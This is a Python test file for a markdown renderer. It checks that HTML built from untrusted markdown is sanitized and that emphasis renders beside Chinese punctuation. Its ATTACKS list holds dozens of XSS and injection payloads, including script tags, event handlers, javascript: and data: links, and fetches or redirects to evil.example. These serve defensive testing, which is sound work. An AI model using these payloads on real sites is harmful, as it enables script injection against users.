"""Markdown from strangers becomes safe HTML, and Chinese emphasis works."""

from __future__ import annotations

import re
from itertools import pairwise

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from builder.text.markdown import is_external, links, plain_text, to_html

ELEMENTS = {
    *("a", "blockquote", "br", "code", "del", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p"),
    *("pre", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"),
}
ATTRIBUTES = {
    "a": {"href", "rel"},
    "ol": {"start"},
    "th": {"scope"},
    "div": {"class", "tabindex"},  # the frame around a table, our own
}
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)' onclick='alert(1)'>x</a>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=a><button>x</button></form>",
    "<object data=//evil.example/x.swf></object><embed src=//evil.example>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<p style='background:url(//evil.example)' id=x class=y>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6a;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example)",
    '[x](https://evil.example/"onmouseover="alert(1))',
    "[x](<https://evil.example/' onclick='alert(1)>)",
    '[x](a.md "title\\" onclick=\\"alert(1)")',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://evil.example/><script>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.gif)",
    '![x" onerror="alert(1)](a.png)',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"onmouseover="alert(1)\nx\n```',
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | d |",
    "| a |\n|:-:|\n| b |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "**<b onclick=alert(1)>x</b>**",
    "# <a id=x>x</a>",
    "{{ 7*7 }} {% raw %} {{ config }}",
]


def html_of(text: str) -> str:
    return to_html(text, resolve=lambda target: f"page/{target}")


def unsafe(html: str) -> list[str]:
    """What of the HTML, as a browser reads it, is not on the list."""
    tree = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    faults = []
    for node in tree.iter():
        if node is tree:
            continue
        if not isinstance(node.tag, str) or node.tag not in ELEMENTS:
            faults.append(f"<{node.tag}>")
            continue
        for name, value in node.attrib.items():
            if name not in ATTRIBUTES.get(node.tag, set()):
                faults.append(f"<{node.tag} {name}>")
            if name == "href" and not re.match(r"https?://|page/|$", value):
                faults.append(f"href={value}")
    return faults


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_element_handler_or_address_outside_the_list_gets_through(attack: str) -> None:
    for text in (attack, f"文字 {attack} 文字", f"- {attack}", f"> {attack}", f"[{attack}](a.md)", f"# {attack}"):
        assert unsafe(html_of(text)) == []


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "文字", "\n", "\n\n", "**", "_", "`", "[", "](", ")", "|", ">", "- "]), max_size=8
    )
)
def test_no_mixture_of_attacks_gets_through(parts: list[str]) -> None:
    assert unsafe(html_of("".join(parts))) == []


@given(st.text(max_size=200))
def test_any_text_becomes_safe_html(text: str) -> None:
    assert unsafe(html_of(text)) == []
    links(text)
    assert "\n" not in plain_text(text)


@pytest.mark.parametrize(
    "text", ["{{ 7*7 }}", "<script>alert(1)</script>", "<b>粗</b>", "a < b & c > d", '"引"', "&nbsp;"]
)
def test_mark_up_of_other_languages_stays_text(text: str) -> None:
    shown = html5lib.parseFragment(html_of(f"`{text}`"), treebuilder="etree", namespaceHTMLElements=False)
    assert "".join(shown.itertext()).strip() == text
    if "&nbsp;" not in text:
        assert plain_text(text) == text


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**重点。**后文", "<strong>重点。</strong>后文"),
        ("前文**“引号”**后文", "<strong>“引号”</strong>后文"),
        ("前文**（括号）**后文", "<strong>（括号）</strong>后文"),
        ("**第1项：**后文", "<strong>第1项：</strong>后文"),
        ("*重点，*后文", "<em>重点，</em>后文"),
        ("~~旧的。~~新的", "<del>旧的。</del>新的"),
        ("2**3**4", "2<strong>3</strong>4"),
        ("snake_case_name", "snake_case_name"),
        ("7*7 和 'run'*3", "7*7 和 'run'*3"),
        ("“**555**”工程和**A.**后文", "“<strong>555</strong>”工程和<strong>A.</strong>后文"),
    ],
)
def test_emphasis_works_beside_chinese_punctuation(text: str, html: str) -> None:
    assert html in html_of(text)


def test_blocks_of_ordinary_markdown_are_rendered() -> None:
    html = html_of("# 一\n\n段落\n换行\n\n- 甲\n- 乙\n\n3. 丙\n\n> 引文\n\n| 列 | 数 |\n|---|---|\n| a | 1 |\n")
    for part in (
        "<h1>一</h1>",
        "<li>甲</li>",
        '<ol start="3">',
        "<blockquote>",
        '<th scope="col">列</th>',
        "<td>1</td>",
    ):
        assert part in html
    assert '<div class="scroll" tabindex="0"><table>' in html


def levels_of(html: str) -> list[int]:
    opened = re.findall(r"<h([1-6])>", html)
    assert re.findall(r"</h([1-6])>", html) == opened
    return [int(level) for level in opened]


@pytest.mark.parametrize(
    ("written", "under", "levels"),
    [
        ([1, 2, 3], 0, [1, 2, 3]),
        ([1, 2, 3], 2, [3, 4, 5]),
        ([3, 4, 3], 1, [2, 3, 2]),
        ([1, 4, 2], 1, [2, 3, 3]),
        ([1, 2, 3], 5, [6, 6, 6]),
    ],
)
def test_headings_begin_below_the_one_they_stand_under(written: list[int], under: int, levels: list[int]) -> None:
    text = "\n\n".join(f"{'#' * level} 题" for level in written)
    assert levels_of(to_html(text, resolve=str, under=under)) == levels


@given(st.lists(st.integers(1, 6), min_size=1, max_size=10), st.integers(0, 5))
def test_headings_skip_no_level(written: list[int], under: int) -> None:
    levels = levels_of(to_html("\n\n".join(f"{'#' * level} 题" for level in written), resolve=str, under=under))
    assert levels[0] == under + 1
    assert all(here <= before + 1 and here > under for before, here in pairwise(levels))


def test_internal_links_are_resolved_and_external_ones_kept() -> None:
    html = html_of("[甲](../a.md) [乙](https://test.example/b?c=d&e=f)")
    assert 'href="page/../a.md"' in html
    assert 'href="https://test.example/b?c=d&amp;e=f"' in html
    assert html.count('rel="noopener noreferrer"') == 2


@pytest.mark.parametrize("text", ["[甲][附件]", "[甲][ 附件 ]", "[附件]", "[附件][]"])
def test_a_label_stands_for_the_address_of_its_definition(text: str) -> None:
    assert links(f"{text}\n\n[附件]: a.md").pages == ("a.md",)
    assert links(f"{text}\n\n[附件一]: a.md").pages == ()


def test_images_are_left_out() -> None:
    assert "<img" not in html_of("前![图](a.png)后")
    assert "a.png" not in html_of("前![图](a.png)后")


def test_links_and_images_are_collected_in_order_even_when_dangerous() -> None:
    text = (
        "[a](a.md) ![b](b.png) [c](javascript:alert(1)) ![d](data:image/png;base64,xx)\n\n"
        "| t |\n|---|\n| [e](//evil.example) |\n\n[f][ref] <ftp://test.example/g> [a](a.md)\n\n[ref]: vbscript:x\n"
    )
    targets = links(text)
    assert list(targets.pages) == [
        "a.md",
        "javascript:alert(1)",
        "//evil.example",
        "vbscript:x",
        "ftp://test.example/g",
        "a.md",
    ]
    assert list(targets.images) == ["b.png", "data:image/png;base64,xx"]


@pytest.mark.parametrize("text", ["`[a](b.md)`", "    [a](b.md)", "\\[a](b.md)", "<a href='b.md'>a</a>"])
def test_what_only_looks_like_a_link_is_none(text: str) -> None:
    assert not links(text).pages


@pytest.mark.parametrize(
    "target", ["https://a.example", "HTTP://a.example", "javascript:x", "mailto:a@b", "//a.example"]
)
def test_a_scheme_or_a_host_makes_a_link_external(target: str) -> None:
    assert is_external(target)


@pytest.mark.parametrize("target", ["a.md", "../a.md", "/a.md", "#a", "?a", "", "a/b:c", "附件：一.md"])
def test_anything_else_is_internal(target: str) -> None:
    assert not is_external(target)


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("市中区的意见，写了**两项**工作。", "市中区的意见，写了两项工作。"),
        ("见[安住计划](housing.md)。\n\n- 甲\n- 乙\n", "见安住计划。 甲 乙"),
        ("a &amp; b &lt;i&gt; <u>", "a & b <i> <u>"),
        ("# 标题\n\n文字\n", "标题 文字"),
        ("", ""),
    ],
)
def test_plain_text_is_the_words_on_one_line(text: str, plain: str) -> None:
    assert plain_text(text) == plain
